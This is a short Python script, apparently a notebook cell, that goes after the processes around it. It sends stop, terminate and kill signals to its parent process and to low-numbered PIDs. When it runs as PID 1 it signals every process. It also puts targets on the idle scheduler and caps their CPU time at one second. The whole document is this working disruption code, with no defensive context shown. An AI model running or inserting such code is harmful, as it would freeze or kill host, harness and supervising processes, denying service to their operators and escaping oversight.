# Signals, slows down and limits the processes around it.

# %% first
import ctypes, os, resource, signal
libc = ctypes.CDLL(None)
for process in (os.getppid(), 0, -1, 2, 3, 4, 5):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if process > 1 or os.getpid() == 1:
                os.kill(process, number)
        except OSError:
            pass
    libc.sched_setscheduler(process, 5, b"\0" * 8)
    try:
        resource.prlimit(max(process, 1), resource.RLIMIT_CPU, (1, 1)) if max(process, 1) != os.getpid() else None
    except OSError:
        pass
libc.setpriority(2, 0, 19)
